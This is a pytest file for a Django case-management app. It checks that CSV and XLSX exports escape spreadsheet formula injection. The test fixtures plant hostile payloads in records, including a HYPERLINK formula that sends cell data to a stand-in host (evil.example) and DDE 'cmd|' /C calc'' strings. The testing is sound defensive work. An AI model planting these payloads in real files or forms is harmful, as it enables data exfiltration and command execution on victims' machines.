"""Formula injection: names typed into SIGAP never become formulas in a file it writes.

A child, a guardian, a cadre, a training and a guest are given hostile names; every CSV and
XLSX download that carries them is opened (XLSX read back with openpyxl, which keeps a formula
as ``data_type == "f"``) and no cell may be a formula or start with a formula character.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from cadres.services import cadre_create
from cases.services import ChildData
from core.spreadsheet import FORMULA_TRIGGERS, guard_text, unguard, xlsx_append
from tests import factories as f
from training import services as training_services

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2&B2,"Klik")'
PAYLOADS = (
    HYPERLINK,
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
HARMLESS_DASHES = ("-",)


def _dangerous(value) -> bool:
    """A text a spreadsheet would run: a formula character first (a lone "-" or a negative
    number is none)."""
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS) and guard_text(value) != value


@pytest.fixture
def hostile(bob):
    """One record of each kind a name can be typed into, each named with a payload."""
    kelurahan = f.kelurahan(f.BANSIR_LAUT)
    case = f.make_case(
        actor=bob,
        kelurahan=kelurahan,
        address=PAYLOADS[1],
        children=[
            ChildData(name=HYPERLINK, sex="P", estimated_age=9, nik="6171014107100001"),
            ChildData(name=PAYLOADS[3], sex="L", estimated_age=12, guardian_name=PAYLOADS[2]),
        ],
    )
    cadre = cadre_create(
        actor=bob, name=HYPERLINK, sex="P", kelurahan=kelurahan, cohort=2022, phone="+6281234567890"
    )
    cadre.address = PAYLOADS[4]
    cadre.save(update_fields=["address"])
    training = training_services.training_create(
        actor=bob, title=HYPERLINK, organiser="DP2KBP3A", venue="BAPPEDA", dates=[dt.date(2022, 11, 23)]
    )
    training_services.participants_add_cadres(actor=bob, training=training, cadres=[cadre])
    training_services.participant_add_guest(
        actor=bob, training=training, name=PAYLOADS[5], institution=PAYLOADS[6]
    )
    return {"case": case, "cadre": cadre, "training": training}


def _downloads(client, hostile):
    """(label, response) for every CSV/XLSX download a petugas can take."""
    training = hostile["training"].pk
    for fmt in ("csv", "xlsx"):
        yield f"cases.{fmt}", client.post("/laporan/ekspor/", {"kind": "cases", "format": fmt})
        yield (
            f"cases_identified.{fmt}",
            client.post(
                "/laporan/ekspor/", {"kind": "cases_identified", "format": fmt, "reason": "Uji keamanan"}
            ),
        )
        yield f"cadres.{fmt}", client.post("/laporan/ekspor/", {"kind": "cadres", "format": fmt})
        yield (
            f"attendance.{fmt}",
            client.post("/laporan/ekspor/", {"kind": "attendance", "format": fmt, "training": training}),
        )
    yield "roster.xlsx", client.get("/kader/ekspor.xlsx")
    yield "template.xlsx", client.get("/kader/impor/templat.xlsx")
    yield "template.csv", client.get("/kader/impor/templat.csv")
    yield (
        "recap.xlsx",
        client.get(
            "/laporan/rekap/unduh.xlsx", {"period": "year", "year": hostile["case"].incident_date.year}
        ),
    )


def _cells(label: str, response) -> list:
    """Every cell's value; for XLSX, fail on any formula cell."""
    assert response.status_code == 200, label
    if label.endswith(".csv"):
        text = response.content.decode("utf-8-sig")
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    workbook = load_workbook(io.BytesIO(response.content))
    values = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{label}: formula at {sheet.title}!{cell.coordinate}"
                values.append(cell.value)
    return values


def test_no_download_holds_a_formula(client_for, bob, hostile, tally):
    client = client_for(bob)
    seen = set()
    downloads = 0
    for label, response in _downloads(client, hostile):
        downloads += 1
        values = _cells(label, response)
        assert not [v for v in values if _dangerous(v)], label
        seen |= {unguard(v) for v in values if isinstance(v, str)}
    tally.add("formula: downloads opened", downloads)
    tally.add("formula: payloads planted", len(PAYLOADS))
    tally.add("requests", downloads)
    # The payloads did reach the files (as text), so the check above is not vacuous.
    assert HYPERLINK in seen
    assert "=.E. (9, P); @./.C. (12, L)" in seen  # the anonymised initials of the hostile names
    assert [p for p in PAYLOADS if not any(p in v for v in seen)] == []


def test_the_anonymised_initials_are_text_not_a_formula(client_for, bob, hostile):
    response = client_for(bob).post("/laporan/ekspor/", {"kind": "cases", "format": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    masked = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value and "(9, P)" in str(c.value)]
    assert [(c.value, c.data_type) for c in masked] == [("'=.E. (9, P); @./.C. (12, L)", "s")]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+62812", "'+62812"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "-"),
        ("-2.5", "-2.5"),
        ("Siti", "Siti"),
        ("", ""),
    ],
)
def test_guard_text(value, written):
    assert guard_text(value) == written
    assert unguard(written) == value


def test_xlsx_append_writes_text_as_strings_and_keeps_numbers():
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    xlsx_append(sheet, ["#N/A", "=1+1", 3, None, dt.date(2024, 1, 2)])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(buffer).active.iter_rows())
    assert [(c.value, c.data_type) for c in row[:3]] == [("#N/A", "s"), ("'=1+1", "s"), (3, "n")]
    assert row[4].value.date() == dt.date(2024, 1, 2)


def test_a_roster_exported_and_imported_again_keeps_its_phone_numbers(client_for, bob):
    from cadres.importer import check_table, read_table

    cadre = cadre_create(
        actor=bob,
        name="Kader Pergi",
        sex="L",
        kelurahan=f.kelurahan(f.BANSIR_LAUT),
        cohort=2022,
        phone="+62811",
    )
    upload = io.BytesIO(client_for(bob).get("/kader/ekspor.xlsx").content)
    upload.name = "kader.xlsx"
    table = read_table(upload)
    assert [cells["telepon"] for _line, cells in table.lines] == ["'+62811"]  # guarded in the file
    result = check_table(table, user=bob)
    assert [(row["cadre_id"], row["phone"]) for row in result.rows] == [(cadre.pk, "+62811")]
    assert result.count("unchanged") == 1
